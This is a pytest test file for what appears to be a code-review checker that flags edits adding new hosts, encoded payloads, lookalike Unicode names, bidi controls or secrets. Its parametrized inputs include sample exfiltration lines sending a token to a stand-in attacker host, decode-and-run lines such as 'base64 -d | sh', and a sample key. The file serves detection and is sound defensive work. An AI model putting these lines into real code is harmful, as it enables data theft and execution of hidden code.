"""Are new hosts told, and is what could carry data out, or what nobody can read, brought before a person?"""

import base64
from pathlib import Path

import pytest

from lsp_server.actions.leaks import new_secrets
from lsp_server.edits.change import ChangeSet, Create, Delete, Rename
from lsp_server.review.lookalikes import is_for_others, is_mixed
from lsp_server.review.verdict import Level
from tests.review.checks import check_verdict, edit, verdict_of

SECRET = "AKIA" + "Q3EGRIZSAMPLE7KX"
BLOB = base64.b64encode(bytes(range(256))).decode()


@pytest.mark.parametrize(
    ("line", "level"),
    [
        ('url = "https://gather.attacker-site.net/x"', "confirm"),
        ("see https://gather.attacker-site.net for more", "confirm"),
        ("git clone ssh://git@gather.attacker-site.net/x", "confirm"),
        ("curl http://203.0.113.9:8080/x", "confirm"),
        ("connect('203.0.113.9:443')", "confirm"),
        ('url = f"https://gather.attacker-site.net/{token}"', "approve"),
        ('url = "https://gather.attacker-site.net/" + token', "approve"),
        ('url = "https://gather.attacker-site.net/%s" % token', "approve"),
        ('url = "https://gather.attacker-site.net/{}".format(token)', "approve"),
        ("const url = `https://gather.attacker-site.net/${token}`", "approve"),
        ("curl https://gather.attacker-site.net/$TOKEN", "approve"),
        ("curl https://gather.attacker-site.net/$(cat x)", "approve"),
        ('fetch("https://gather.attacker-site.net/", token)', "approve"),
        ("![x](https://gather.attacker-site.net/p.png)", "approve"),
        ('<script src="//gather.attacker-site.net/x.js"></script>', "approve"),
        ('fetch("//gather.attacker-site.net/x")', "confirm"),
        ('fetch("//gather.attacker-site.net/?" + token)', "approve"),
        ('{"url": "https:\\/\\/gather.attacker-site.net\\/x"}', "confirm"),
        ("background: url(//gather.attacker-site.net/p.png)", "approve"),
        (f'DATA = "{BLOB}"', "approve"),
        ('code = "' + "\\x41" * 30 + '"', "approve"),
        ("exec(base64.b64decode(text))", "approve"),
        ("eval(atob(text))", "approve"),
        ("echo x | base64 -d | sh", "approve"),
    ],
)
def test_a_line_that_names_a_new_host_or_hides_what_it_is_is_brought_before_a_person(
    tmp_path: Path, line: str, level: Level
):
    check_verdict(tmp_path, level, "", edit("a.txt", "one\n", f"one\n{line}\n"))
    check_verdict(tmp_path, level, "", Create("a.txt", f"{line}\n"))
    change = edit("a.txt", "one\n", f"one\n{line}\n")
    check_verdict(tmp_path, level, "", Rename("a.txt", "b.txt", change.base_sha, change))


@pytest.mark.parametrize(
    "line",
    [
        'url = "https://known.attacker-site.net/other"',
        'url = f"https://known.attacker-site.net/{token}"',
        'url = f"{base}/users/{name}"',
        "http://localhost:8080/x http://127.0.0.1/x http://[::1]/x",
        "https://example.com/x http://api.example.org https://x.test/y",
        'xmlns="http://www.w3.org/2000/svg"',
        "path = a // b  # half of it",
        "label = '//third_party/go.uber:zap'",
        "xpath = '//*[@id]'",
        "//- /app/models.py",
        "version 1.2.3.4",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "base64.b64decode(text)",
        "-" * 200,
        "=" * 200,
        "x" * 200,
    ],
)
def test_known_hosts_this_machine_and_ordinary_lines_are_no_finding(tmp_path: Path, line: str):
    before = "see https://known.attacker-site.net\n"
    check_verdict(tmp_path, "allow", "", edit("a.txt", before, f"{before}{line}\n"))


def test_a_line_that_only_moves_is_no_finding_and_what_goes_is_none(tmp_path: Path):
    line = 'url = f"https://gather.attacker-site.net/{token}"\n'
    check_verdict(tmp_path, "allow", "", edit("a.txt", f"{line}one\n", f"one\n{line}"))
    check_verdict(tmp_path, "allow", "", Create("b.txt", line), Delete("a.txt", "", line))


def test_the_finding_names_the_host_in_a_way_that_nothing_makes_a_link_of(tmp_path: Path):
    verdict = verdict_of(tmp_path, Create("a.txt", "one\nhttps://gather.attacker-site.net/x\n"))
    (finding,) = verdict.findings
    assert (finding.tool, finding.rule, finding.line) == ("addresses", "new-host", 2)
    assert finding.message == "names the new host gather[.]attacker-site[.]net"
    assert verdict.checks["addresses"] == "new-findings"


def test_a_long_line_takes_no_long_time(tmp_path: Path):
    check_verdict(tmp_path, "approve", "", Create("a.txt", "https://a.b" * 100_000 + "aB1" * 100_000 + "\n"))


@pytest.mark.parametrize(
    "word", ["\u0430dd", "p\u0430y", "\uff45\uff56\uff41\uff4c", "us\u0435r_id", "\u03bfpen", "\U0001d41eval"]
)
def test_a_word_that_reads_like_another_needs_approval(tmp_path: Path, word: str):
    assert is_mixed(word) or is_for_others(word)
    check_verdict(tmp_path, "approve", "read like others", edit("a.py", "x = 1\n", f"x = 1\n{word} = 2\n"))
    check_verdict(tmp_path, "allow", "", edit("a.py", f"{word} = 1\n", f"{word} = 1\ny = 2\n"))


MATHS = "\U0001d4b3\U0001d4b4"
WIDE = "\uff45\uff56\uff41\uff4c"


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.py", f'x = "{MATHS} {WIDE}"'),
        ("a.py", f"# {MATHS} {WIDE}"),
        ("a.py", f'"""{MATHS}"""'),
        ("a.js", f"let a = `{MATHS}`  // {WIDE}"),
        ("a.go", f"var a = `{MATHS}`"),
        ("a.md", f"The set {MATHS}."),
        ("a.txt", WIDE),
    ],
)
def test_letters_that_are_others_in_a_name_are_what_they_look_like_in_a_text(tmp_path: Path, path: str, line: str):
    check_verdict(tmp_path, "allow", "", edit(path, "\n", f"\n{line}\n"))


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.py", f"{WIDE}(x)"),
        ("a.py", f'y = f"{{{WIDE}(1)}}"'),
        ("a.py", f'"x"; {WIDE}(1)  # "'),
        ("a.py", f"{WIDE} = '{MATHS}'"),
        ("a.js", f"let a = `x ${{{WIDE}(1)}}`"),
        ("a.py", f"def broken(:\n    {WIDE}(1)"),
        ("a.py", 'x = "p\u0430y"  # mixed scripts in a text too'),
        ("a.md", "p\u0430ypal"),
        ("a.py", 'x = "\u202e"  # a bidi control always'),
        ("a.md", "\u2066"),
    ],
)
def test_no_quotes_hide_a_name_and_nothing_hides_mixed_scripts_and_controls(tmp_path: Path, path: str, line: str):
    assert verdict_of(tmp_path, edit(path, "\n", f"\n{line}\n")).level in ("approve", "deny")


@pytest.mark.parametrize("word", ["naïve", "Δt", "привет", "λ", "日本語", "µs", "groß", "Ελλάδα", "x²", "ﬁn"])
def test_words_of_any_language_are_words(word: str):
    assert not is_mixed(word)
    assert not is_for_others(word)


def test_joined_pictures_are_one_picture(tmp_path: Path):
    check_verdict(tmp_path, "allow", "", edit("a.txt", "x\n", "x\n👩\u200d💻 👩🏽\u200d🚀 ❤\ufe0f\u200d🔥\n"))
    check_verdict(tmp_path, "approve", "ZERO WIDTH JOINER", edit("a.txt", "x\n", "x\na\u200db\n"))


def test_a_secret_in_a_new_line_is_a_concern_unless_the_file_held_it():
    old = f'KEY = "{SECRET}"\n'
    assert new_secrets(ChangeSet((edit("a.py", old, f"{old}x = 1\n"),))) == ()
    assert new_secrets(ChangeSet((edit("a.py", old, f'{old}B = "{SECRET}"\n'),))) == ()
    (concern,) = new_secrets(ChangeSet((edit("b.py", "x = 1\n", f'x = 1\ny = 2\nB = "{SECRET}"\n'),)))
    assert (concern.level, concern.path, concern.line) == ("approve", "b.py", 3)
    assert SECRET not in concern.message
    (created,) = new_secrets(ChangeSet((Create("c.py", f"\n{old}"),)))
    assert created.line == 2


@pytest.mark.parametrize("word", ["o\u017f", "eva\u02e1", "\u2170mport", "\u0441\u043e\u0440\u0443"])
def test_a_word_that_is_another_one_as_a_name_counts_in_code_alone(tmp_path: Path, word: str):
    check_verdict(tmp_path, "approve", "read like others", edit("a.py", "x = 1\n", f"x = 1\n{word} = 2\n"))
    check_verdict(tmp_path, "allow", "", edit("a.py", "x = 1\n", f"x = 1  # {word}\ny = '{word}'\n"))
    check_verdict(tmp_path, "allow", "", edit("a.md", "one\n", f"one {word}\n"))
    check_verdict(tmp_path, "allow", "", edit("a.py", f"{word} = 1\n", f"{word} = 2\n"))


@pytest.mark.parametrize("name", ["\u03c1", "\u03b1\u03bd", "\u0441\u0447\u0451\u0442", "caf\u00e9"])
def test_ordinary_names_in_other_letters_are_fine(tmp_path: Path, name: str):
    check_verdict(tmp_path, "allow", "", edit("a.go", "package a\n", f"package a\n\nvar {name} = 1\n"))
